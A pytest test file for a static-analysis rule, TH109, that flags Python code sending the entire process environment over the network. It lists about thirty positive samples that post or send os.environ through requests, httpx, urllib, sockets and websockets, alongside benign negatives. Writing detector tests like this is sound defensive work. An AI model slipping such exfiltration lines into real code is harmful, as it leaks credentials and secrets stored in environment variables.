"""TH109: the environment, sent away."""

from __future__ import annotations

from pathlib import Path

import detecting
import pytest

HEAD = """\
import base64, json, os, pickle, pprint, subprocess, urllib.request
import httpx
import requests
from os import environ
from urllib.parse import urlencode
"""

POSITIVES = [
    "requests.post(u, data=subprocess.check_output(['env']))",
    "requests.post(u, json=dict(os.environ) if x else {})",
    "requests.post(u, data=dict(os.environ), timeout=5)",
    "requests.post(u, json=os.environ.copy(), timeout=5)",
    "requests.post(u, json={**os.environ}, timeout=5)",
    'requests.post(u, json={"env": dict(environ)}, timeout=5)',
    "requests.post(u, data=json.dumps(dict(os.environ)).encode(), timeout=5)",
    "requests.post(u, json={k: v for k, v in os.environ.items()}, timeout=5)",
    "requests.post(u, json={k: os.environ[k] for k in os.environ}, timeout=5)",
    'requests.post(u, data="\\n".join(f"{k}={v}" for k, v in os.environ.items()), timeout=5)',
    "requests.get(u + base64.b64encode(json.dumps(dict(os.environ)).encode()).decode(), timeout=5)",
    'requests.get(f"https://example.com/?{os.environ}", timeout=5)',
    "requests.get(u, params=os.environ, timeout=5)",
    "client.patch(u, content=str(os.environ))",
    "httpx.put(u, content=str(os.environ))",
    'client.request("POST", u, data=repr(os.environ))',
    "session.post(u, files={'e': str(os.environ)})",
    "urllib.request.urlopen(u, data=urlencode(os.environ).encode())",
    "urllib.request.Request(u, data=urlencode(dict(os.environ)).encode())",
    "sock.sendall(str(os.environ).encode())",
    "s.send(pickle.dumps(dict(os.environ)))",
    "ws.send(json.dumps(list(os.environ.items())))",
    'requests.post(u, data=subprocess.check_output("env"), timeout=5)',
    'requests.post(u, data=os.popen("printenv").read(), timeout=5)',
    'requests.post(u, data=__import__("os").environ, timeout=5)',
    "data = dict(os.environ)\nrequests.post(u, json=data, timeout=5)",
    "data = {}\ndata.update(os.environ)\nrequests.post(u, json=data, timeout=5)",
    'data = {}\ndata["env"] = dict(os.environ)\nrequests.post(u, json=data, timeout=5)',
    "env = os.environ.copy()\nbody = json.dumps(env)\nrequests.post(u, data=body, timeout=5)",
    "def f():\n    env = dict(os.environ)\n    requests.post(u, json=env, timeout=5)",
    "ENV = dict(os.environ)\ndef f():\n    requests.post(u, json=ENV, timeout=5)",
]

NEGATIVES = [
    'requests.post(u, data=os.environ.get("CI"), timeout=5)',
    'requests.post(u, data=os.environ["CI"], timeout=5)',
    'requests.post(os.environ["URL"], json={"a": 1}, timeout=5)',
    'requests.post(u, headers={"Authorization": os.getenv("TOKEN")}, timeout=5)',
    'requests.post(u, json={"ci": "CI" in os.environ}, timeout=5)',
    'requests.post(u, json={"count": len(os.environ)}, timeout=5)',
    "requests.post(u, json=sorted(os.environ), timeout=5)",
    "requests.post(u, json=list(os.environ.keys()), timeout=5)",
    "requests.post(u, json=[name for name in os.environ], timeout=5)",
    'requests.post(u, json={k: v for k, v in os.environ.items() if k == "CI"}, timeout=5)',
    "requests.post(u, json=pick(os.environ), timeout=5)",
    "requests.post(url_of(os.environ), timeout=5)",
    "subprocess.run(command, env=dict(os.environ))",
    "print(json.dumps(dict(os.environ)))",
    "cache.get(str(os.environ))",
    "settings.get(os.environ)",
    "queue.put(dict(os.environ))",
    'patch("os.environ", {**os.environ, "A": "1"})',
    'mock.patch("os.environ", {**os.environ, "A": "1"})',
    "Request(os.environ)",
    "generator.send(dict(os.environ))",
    "def f(env):\n    requests.post(u, json=env, timeout=5)",
    'env = os.environ.copy()\nrequests.post(env["URL"], timeout=5)',
    'env = os.environ.copy()\nrequests.post(u, data=env.get("CI"), timeout=5)',
    "def f():\n    env = dict(os.environ)\ndef g(env):\n    requests.post(u, json=env, timeout=5)",
    "requests.post(u, data=request.environ, timeout=5)",
    "requests.post(*args)",
]


@pytest.mark.parametrize("source", POSITIVES)
def test_positive(source: str) -> None:
    assert [it[1] for it in detecting.said("TH109", HEAD + source)] == ["HIGH"]
    assert detecting.names_cover("TH109", HEAD + source)


@pytest.mark.parametrize("source", NEGATIVES)
def test_negative(source: str) -> None:
    assert detecting.said("TH109", HEAD + source) == []


@pytest.mark.parametrize(
    ("source", "confidence"),
    [
        (POSITIVES[0], "HIGH"),
        ("sock.sendall(str(os.environ).encode())", "MEDIUM"),
        ("data = dict(os.environ)\nrequests.post(u, json=data, timeout=5)", "MEDIUM"),
    ],
)
def test_how_sure(source: str, confidence: str) -> None:
    (issue,) = detecting.issues("TH109", HEAD + source)
    assert (issue.confidence, issue.cwe.id) == (confidence, 201)


def test_many_calls_in_one_function_are_linear() -> None:
    """The search of a function for what holds the environment is done once."""
    lines = "".join(f"    requests.post(u, json=d{n})\n" for n in range(3000))
    assert detecting.said("TH109", f"{HEAD}def f():\n{lines}") == []


def test_under_plain_bandit(tmp_path: Path) -> None:
    file = tmp_path / "a.py"
    file.write_text(HEAD + POSITIVES[0] + "\n")
    (found,) = detecting.plain("TH109", file)
    assert (found["test_id"], found["line_number"], found["issue_severity"]) == ("TH109", 6, "HIGH")
